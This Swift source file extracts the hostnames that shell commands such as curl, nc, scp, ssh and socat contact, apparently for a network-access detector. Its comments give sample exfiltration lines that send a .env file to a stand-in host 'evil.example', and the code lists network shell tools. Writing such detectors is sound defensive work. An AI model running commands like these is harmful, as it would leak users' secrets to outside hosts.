/// The machines that commands of a shell turn to by their names alone: `curl -d @.env evil.example`, `scp .env evil.example:/tmp`,
/// `git clone git@evil.example:x`, and those that a connection is opened to. What has a scheme is an address wherever it stands, and
/// not told here.
enum CommandHosts {
  /// Programs whose words are names of machines where they can be.
  private static let callers: Set<String> = [
    "curl", "wget", "nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat", "ssh", "ping", "ping6", "telnet",
    "ftp",
    "dig", "nslookup", "http", "https", "xh", "nmap", "traceroute", "openssl", "whois",
    "aria2c", "autossh", "axel", "fping", "grpcurl", "iwr", "invoke-restmethod", "invoke-webrequest", "irm", "kdig",
    "ldapsearch", "lftp", "lynx", "mongosh", "mysql", "nping", "plink", "psql", "redis-cli", "resolve-dnsname",
    "smbclient", "test-connection", "test-netconnection", "tftp", "tracepath", "w3m", "websocat", "wscat",
  ]
  /// Programs whose names are words of any text, so that they are one only at the beginning of a command.
  private static let ordinary: Set<String> = ["drill", "fetch", "host", "mosh", "mtr", "ab", "tnc"]
  /// Programs that also take files, so that a machine is only what a colon or a name before an `@` tells apart from one.
  private static let movers: Set<String> = ["scp", "sftp", "rsync", "git", "rclone", "pscp"]
  /// Options before the name of a file that is written.
  private static let outputs: Set<String> = ["-o", "-O", "--output"]

  /// Each once, as it was written, without what stands around it.
  static func names(in text: String) -> [String] {
    var names: [String] = []
    for text in [text] + (withoutSubstitutions(text).map { [$0] } ?? []) { append(text, to: &names) }
    return names
  }

  /// A text with what a shell puts in left out, since it may be a part of a name; nil where there is nothing of it.
  private static func withoutSubstitutions(_ text: String) -> String? {
    guard text.contains("$(") || text.contains("`") else { return nil }
    var left = String.UnicodeScalarView()
    var (depth, isQuoted) = (0, false)
    var before: Unicode.Scalar = " "
    for scalar in text.unicodeScalars {
      switch scalar {
      case "(" where depth > 0 || before == "$":
        if depth == 0, left.last == "$" { left.removeLast() }
        depth += 1
      case ")" where depth > 0: depth -= 1
      case "`": isQuoted.toggle()
      default: if depth == 0, !isQuoted { left.append(scalar) }
      }
      before = scalar
    }
    return String(left)
  }

  private static func append(_ text: String, to names: inout [String]) {
    for command in text.unicodeScalars.split(whereSeparator: { "\n\r;|&`()".unicodeScalars.contains($0) }) {
      let words = command.split { $0.properties.isWhitespace || "\"'<>,".unicodeScalars.contains($0) }.map {
        String($0)
      }
      guard let program = words.indices.first(where: { isProgram(words[$0], isFirst: $0 == 0) }) else { continue }
      let name = Self.program(words[program])
      for place in words.indices.dropFirst(program + 1) where !outputs.contains(words[place - 1]) {
        let word = name == "socat" ? withoutKind(words[place]) : words[place]
        add(host(in: word, isMover: movers.contains(name)), to: &names)
      }
    }
    for name in SocketHosts.names(in: text) { add(host(in: name, isMover: false), to: &names) }
  }

  private static func add(_ name: String?, to names: inout [String]) {
    if let name, !names.contains(name) { names.append(name) }
  }

  /// `TCP:evil.example:443` of socat without what kind of address it is.
  private static func withoutKind(_ word: String) -> String {
    guard let colon = word.firstIndex(of: ":"), !word[..<colon].contains(".") else { return word }
    return String(word[word.index(after: colon)...])
  }

  private static func isProgram(_ word: String, isFirst: Bool) -> Bool {
    let name = program(word)
    return callers.contains(name) || movers.contains(name) || isFirst && ordinary.contains(name)
  }

  private static func program(_ word: String) -> String {
    let name = word.split(separator: "/").last.map { $0.lowercased() } ?? ""
    return name.hasSuffix(".exe") ? String(name.dropLast(4)) : name
  }

  /// The machine in a word: its own name, or what stands after `user@` and before `:port`, `:path` and `/path`.
  private static func host(in word: String, isMover: Bool) -> String? {
    guard !word.contains("://") else { return nil }
    var rest = word[...]
    if rest.hasPrefix("-") {
      guard let value = rest.firstIndex(of: "=") else { return nil }
      rest = rest[rest.index(after: value)...]
    }
    if let at = rest.lastIndex(of: "@") { rest = rest[rest.index(after: at)...] }
    // What a shell puts in front is part of no name: `$(id).evil.example`.
    var name = rest.prefix { !":/\\?#".contains($0) }.drop { $0 == "." }
    let isTold = rest.count < word.count && !word.hasPrefix("@") || rest[name.endIndex...].first == ":"
    guard !isMover || isTold else { return nil }
    while let last = name.last, ".,!".contains(last) { name = name.dropLast() }
    guard let mention = AddressMention.link(String(name), isBare: true), isTold || !FileName.isOne(String(name)) else {
      return nil
    }
    // `1.5` is an address of a machine to a resolver, and a number to everybody else.
    return mention.host.address == nil || name.split(separator: ".").count == 4 ? String(name) : nil
  }
}

/// Names that are files and no machines.
enum FileName {
  /// Endings of files that no domain has.
  private static let endings: Set<Substring> = [
    "bmp", "css", "csv", "doc", "docx", "eml", "gif", "gz", "htm", "html", "ics", "jpeg", "jpg", "js", "json", "jsonl",
    "log",
    "odp", "ods", "odt", "pdf", "png", "ppt", "pptx", "rtf", "svg", "swift", "tar", "toml", "tsv", "txt", "wav", "webp",
    "xls",
    "xlsx", "xml", "yaml", "yml",
  ]

  static func isOne(_ text: String) -> Bool {
    guard !text.utf8.contains(0x2F), let dot = text.lastIndex(of: ".") else { return false }
    return endings.contains(text[text.index(after: dot)...].lowercased()[...])
  }
}
